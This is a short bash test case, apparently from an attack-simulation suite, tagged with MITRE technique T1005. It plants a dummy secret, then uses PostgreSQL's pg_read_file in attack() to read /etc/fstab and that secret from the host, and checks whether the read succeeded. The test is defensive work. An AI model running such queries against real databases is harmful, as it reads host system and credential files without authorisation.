# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1005
about="pg_read_file reads a file of the host"
attack() { sql "select pg_read_file('/etc/fstab')" >"$state/answer" 2>&1; sql "select pg_read_file('/srv/secret')" >>"$state/answer"; }
before() { echo password >/srv/secret; chmod 644 /srv/secret; }
effect() { grep -q password "$state/answer"; }
